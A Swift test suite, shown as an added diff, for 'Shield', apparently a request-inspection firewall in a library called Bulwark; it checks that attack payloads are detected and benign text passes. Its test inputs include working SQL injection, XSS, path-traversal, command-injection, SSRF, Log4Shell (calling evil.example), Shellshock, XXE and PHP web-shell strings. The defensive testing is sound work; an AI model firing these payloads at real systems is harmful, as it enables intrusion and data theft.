@@ -1,0 +1,199 @@
+import Bulwark
+import BulwarkTesting
+import Foundation
+import HTTPTypes
+import Testing
+
+@Suite("Shield")
+struct ShieldTests {
+    let shield = Shield()
+
+    @Test(
+        "each family is recognised in a value",
+        arguments: [
+            ("1' or '1'='1", ShieldAttack.sqlInjection),
+            ("-1 union all select null,version()--", .sqlInjection),
+            ("admin'--", .sqlInjection),
+            ("1; drop table users", .sqlInjection),
+            ("1 and sleep(5)", .sqlInjection),
+            ("1%27%20or%201%3D1--", .sqlInjection),
+            ("<script>alert(1)</script>", .crossSiteScripting),
+            ("<img src=x onerror=alert(1)>", .crossSiteScripting),
+            ("\" autofocus onfocus=alert(document.domain) x=\"", .crossSiteScripting),
+            ("<a href=\"&#x6a;avascript:alert(1)\">x</a>", .crossSiteScripting),
+            ("javascript:alert(document.cookie)", .crossSiteScripting),
+            ("self['\\u0061lert'](1)", .crossSiteScripting),
+            ("../../../../etc/passwd", .pathTraversal),
+            ("..%c0%af..%c0%afetc%c0%afpasswd", .pathTraversal),
+            ("file:///etc/shadow", .pathTraversal),
+            ("; cat /etc/hosts", .commandInjection),
+            ("a|/usr/bin/id", .commandInjection),
+            ("$(whoami)", .commandInjection),
+            ("x;c'a't${IFS}/etc/issue", .commandInjection),
+            ("http://169.254.169.254/latest/meta-data/", .serverSideRequestForgery),
+            ("http://0x7f000001/admin", .serverSideRequestForgery),
+            ("gopher://127.0.0.1:6379/_INFO", .serverSideRequestForgery),
+            ("{{7*7}}", .templateInjection),
+            ("{{''.__class__.__mro__[1].__subclasses__()}}", .templateInjection),
+            ("${jndi:ldap://evil.example/a}", .log4Shell),
+            ("${${lower:j}${::-n}di:rmi://x/y}", .log4Shell),
+            ("() { :; }; /bin/bash -c id", .shellshock),
+            ("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", .xmlExternalEntity),
+            ("{\"$where\": \"sleep(1000)\"}", .noSQLInjection),
+            ("<?php system($_GET['c']); ?>", .codeInjection),
+            ("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", .codeInjection),
+            ("x%0d%0aSet-Cookie: admin=1", .responseSplitting),
+            ("*)(uid=*))(|(uid=*", .ldapInjection),
+        ]
+    )
+    func recognises(_ payload: String, _ attack: ShieldAttack) {
+        let request = BulwarkRequest.get("/search?q=" + percentEncoded(payload))
+        let findings = shield.inspect(request)
+        #expect(findings.contains(ShieldFinding(attack: attack, location: "query.q")), "\(payload): \(findings)")
+    }
+
+    @Test(
+        "ordinary values pass",
+        arguments: [
+            "O'Brien", "rock'n'roll", "Don't stop me now", "14 X 18\" frame", "select all items from the list",
+            "union was a great select", "john+or@var.es", "1/26/11", "7 AND HALF", "echo in the mirror",
+            "ls 300 lexus", "JavaScript: Basics of JavaScript Language", "https://example.com/a/b?c=d",
+            "C:\\Program Files\\App", "price >= 10 and <= 20", "javascript:void(0)", "../images/logo.png",
+            "The system prompt field", "{{name}}", "a; b; c", "Tom & Jerry | Cartoons", "2 * 3 = 6",
+            "user@example.com", "<b>bold</b> and <i>italic</i>", "Error: at Object.u (https://x.example/a.js:1:2)",
+        ]
+    )
+    func passes(_ value: String) {
+        let findings = shield.inspect(BulwarkRequest.get("/search?q=" + percentEncoded(value)))
+        #expect(findings.isEmpty, "\(value): \(findings)")
+    }
+
+    @Test("every part of the request is inspected and named")
+    func locations() {
+        var headers: HTTPFields = [:]
+        headers[HTTPField.Name("cookie")!] = "session=abc; pref=1' or '1'='1"
+        headers[.userAgent] = "() { :; }; echo vulnerable"
+        headers[HTTPField.Name("referer")!] = "https://example.com/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
+        let request = BulwarkRequest.post(
+            "/a/..%2f..%2fetc/passwd?$where=1",
+            body: #"{"user": {"name": "x' union select password from users--"}, "tags": ["ok", "<svg/onload=alert(1)>"]}"#,
+            headers: headers
+        )
+        let findings = Set(shield.inspect(request))
+        #expect(findings.contains(ShieldFinding(attack: .pathTraversal, location: "path")))
+        #expect(findings.contains(ShieldFinding(attack: .sqlInjection, location: "cookie.pref")))
+        #expect(findings.contains(ShieldFinding(attack: .shellshock, location: "header.user-agent")))
+        #expect(findings.contains(ShieldFinding(attack: .crossSiteScripting, location: "header.referer")))
+        #expect(findings.contains(ShieldFinding(attack: .sqlInjection, location: "body.json.user.name")))
+        #expect(findings.contains(ShieldFinding(attack: .crossSiteScripting, location: "body.json.tags[1]")))
+    }
+
+    @Test("form, multipart and XML bodies are read by their structure")
+    func bodies() {
+        let form = BulwarkRequest.post(
+            "/login",
+            body: "user=admin%27--&pass=x",
+            contentType: "application/x-www-form-urlencoded"
+        )
+        #expect(shield.inspect(form).contains(ShieldFinding(attack: .sqlInjection, location: "body.form.user")))
+        let multipart = BulwarkRequest.post(
+            "/upload",
+            body: "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../shell.php\"\r\n"
+                + "Content-Type: application/octet-stream\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n",
+            contentType: "multipart/form-data; boundary=XyZ"
+        )
+        let found = Set(shield.inspect(multipart))
+        #expect(found.contains(ShieldFinding(attack: .pathTraversal, location: "body.multipart.file.filename")))
+        #expect(found.contains(ShieldFinding(attack: .codeInjection, location: "body.multipart.file")))
+        let xml = BulwarkRequest.post(
+            "/soap",
+            body: "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"http://x/\">]><a>&lt;script&gt;alert(1)&lt;/script&gt;</a>",
+            contentType: "text/xml"
+        )
+        let xmlFound = Set(shield.inspect(xml).map(\.attack))
+        #expect(xmlFound.contains(.xmlExternalEntity))
+        #expect(xmlFound.contains(.crossSiteScripting))
+    }
+
+    @Test("an exclusion silences a family at a location, and only there")
+    func exclusions() throws {
+        let rich = Shield(exclusions: [ShieldExclusion(location: "body.json.post.*", attacks: [.crossSiteScripting])])
+        let request = BulwarkRequest.post(
+            "/posts",
+            body: #"{"post": {"html": "<script>track()</script>"}, "title": "<script>alert(1)</script>"}"#
+        )
+        let findings = rich.inspect(request)
+        #expect(findings == [ShieldFinding(attack: .crossSiteScripting, location: "body.json.title")])
+    }
+
+    @Test("the strict level also denies weaker signals")
+    func strict() {
+        let request = BulwarkRequest.get("/file?name=..%2Fsecret.txt")
+        #expect(Shield().inspect(request).isEmpty)
+        #expect(!Shield(sensitivity: .strict).inspect(request).isEmpty)
+    }
+
+    @Test("the shield rule denies with a SHIELD reason through the engine and the rules JSON")
+    func rule() async throws {
+        let data = Data(#"{"rules": [{"type": "shield", "mode": "LIVE"}]}"#.utf8)
+        let bulwark = try Bulwark(configuration: JSONDecoder().decode(BulwarkConfiguration.self, from: data))
+        let attack = await bulwark.protect(BulwarkRequest.get("/?id=1%20union%20select%20password%20from%20users"))
+        #expect(attack.isDenied)
+        #expect(attack.reason.shield?.shieldTriggered == true)
+        #expect(attack.reason.shield?.attacks == [.sqlInjection])
+        #expect(attack.reason.shield?.locations == ["query.id"])
+        let json = String(decoding: try JSONEncoder().encode(attack.reason), as: UTF8.self)
+        #expect(json.contains(#""type":"SHIELD""#) && json.contains(#""attacks":["SQLI"]"#))
+        let decoded = try JSONDecoder().decode(Reason.self, from: Data(json.utf8))
+        #expect(decoded.shield == attack.reason.shield)
+        let clean = await bulwark.protect(BulwarkRequest.get("/?id=42"))
+        #expect(clean.isAllowed)
+        #expect(clean.results.first?.reason?.shield?.shieldTriggered == false)
+    }
+
+    @Test(
+        "a bad shield configuration names the field",
+        arguments: [
+            (#"{"type": "shield", "sensitivity": "PARANOID"}"#, "sensitivity"),
+            (#"{"type": "shield", "exclude": [{"location": ""}]}"#, "exclude[0].location"),
+            (#"{"type": "shield", "exclude": [{"location": "x", "attacks": ["SQLI", "NOPE"]}]}"#, "exclude[0].attacks[1]"),
+            (#"{"type": "shield", "maxBodyBytes": 0}"#, "maxBodyBytes"),
+            (#"{"type": "shield", "exclude": "body"}"#, "exclude"),
+        ]
+    )
+    func badConfiguration(_ rule: String, _ field: String) {
+        let data = Data(("{\"rules\": [" + rule + "]}").utf8)
+        #expect {
+            let configuration = try JSONDecoder().decode(BulwarkConfiguration.self, from: data)
+            _ = try Bulwark(configuration: configuration)
+        } throws: { error in
+            (error as? BulwarkConfigurationError)?.field == field
+        }
+    }
+
+    @Test("malformed and hostile input is bounded: no crash, no hang")
+    func hostileInput() {
+        let deep = String(repeating: "[", count: 10_000) + String(repeating: "]", count: 10_000)
+        let inputs: [(String, String)] = [
+            (deep, "application/json"),
+            ("{\"a\": \"\\ud800\", \"b\": [1, 2, {\"c\": \"\\u12", "application/json"),
+            ("--x\r\nContent-Disposition: form-data; name=\"a\r\n\r\n", "multipart/form-data; boundary=x"),
+            (String(repeating: "<a ", count: 20_000), "text/xml"),
+            (String(repeating: "%25", count: 50_000), "application/x-www-form-urlencoded"),
+            (String(repeating: "${", count: 20_000), "text/plain"),
+            (String(repeating: "'", count: 100_000), "text/plain"),
+        ]
+        for (body, type) in inputs {
+            _ = shield.inspect(BulwarkRequest.post("/", body: body, contentType: type))
+        }
+        let limited = Shield(limits: ShieldLimits(maxBodyBytes: 16, maxValues: 2, maxDepth: 2))
+        let late = BulwarkRequest.post("/", body: String(repeating: "a", count: 64) + "<script>alert(1)</script>", contentType: "text/plain")
+        #expect(limited.inspect(late).isEmpty)
+    }
+
+    private func percentEncoded(_ value: String) -> String {
+        var allowed = CharacterSet.alphanumerics
+        allowed.insert(charactersIn: "-._~")
+        return value.addingPercentEncoding(withAllowedCharacters: allowed) ?? value
+    }
+}
